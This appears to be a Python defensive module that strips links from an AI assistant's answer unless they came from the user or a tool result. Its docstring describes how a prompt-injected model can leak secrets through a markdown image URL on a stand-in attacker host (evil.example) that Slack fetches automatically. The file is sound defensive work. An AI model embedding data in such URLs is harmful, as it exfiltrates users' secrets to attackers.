"""Links the model built itself: a URL in an answer that neither the user nor a tool result
supplied can carry data to its host.

A fooled model needs no tool to exfiltrate: ``![ok](https://evil.example/p.png?d=<secret>)``
in an answer is fetched by Slack's media unfurler, and a link is one click away from sending
its query string. A URL is *known* when it appears verbatim in the user's messages or in a tool
result (document URIs, links in CRM records) — copying it carries nothing new; any other URL
(and any ``mailto:``) is removed from the answer, leaving its host visible so the reader knows
something was dropped. Hosts the deployment trusts (its own domains) may be allowed outright.

Pure: the caller passes the texts the answer may draw links from.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from urllib.parse import urlsplit

PLACEHOLDER = "[link removed: {host}]"

_LINK = re.compile(r"\b(?:(?:https?|ftp)://|mailto:)[^\s<>()\[\]\"'|`]+", re.IGNORECASE)
_TRAILING = ".,;:!?*_~"


@dataclass(frozen=True)
class LinkFinding:
    url: str
    host: str
    start: int
    end: int


@dataclass(frozen=True)
class LinkCheck:
    text: str  # the answer with unknown links removed
    removed: tuple[LinkFinding, ...]


def _host(url: str) -> str:
    if url.lower().startswith("mailto:"):
        return url[7:].split("?", 1)[0].rsplit("@", 1)[-1].lower()
    try:
        return (urlsplit(url).hostname or "").lower()
    except ValueError:
        return ""


def _trusted(host: str, trusted: Iterable[str]) -> bool:
    return any(host == t or host.endswith("." + t) for t in trusted)


def unknown_links(answer: str, known_texts: Sequence[str], *, trusted_hosts: Iterable[str] = ()) -> list[LinkFinding]:
    """URLs in ``answer`` that appear in none of ``known_texts`` and are not on a trusted host."""
    trusted = [h.lower().lstrip(".") for h in trusted_hosts]
    known = "\n".join(known_texts)
    out: list[LinkFinding] = []
    for m in _LINK.finditer(answer):
        url = m.group(0).rstrip(_TRAILING)
        host = _host(url)
        if url in known or (host and _trusted(host, trusted)):
            continue
        out.append(LinkFinding(url, host, m.start(), m.start() + len(url)))
    return out


def remove_unknown_links(
    answer: str,
    known_texts: Sequence[str],
    *,
    trusted_hosts: Iterable[str] = (),
    placeholder: str = PLACEHOLDER,
) -> LinkCheck:
    """``answer`` with every unknown link replaced by ``placeholder`` (``{host}`` is filled in)."""
    found = unknown_links(answer, known_texts, trusted_hosts=trusted_hosts)
    if not found:
        return LinkCheck(answer, ())
    parts: list[str] = []
    pos = 0
    for f in found:
        parts.append(answer[pos : f.start])
        parts.append(placeholder.format(host=f.host or "unknown host"))
        pos = f.end
    parts.append(answer[pos:])
    return LinkCheck("".join(parts), tuple(found))


__all__ = ["PLACEHOLDER", "LinkCheck", "LinkFinding", "remove_unknown_links", "unknown_links"]
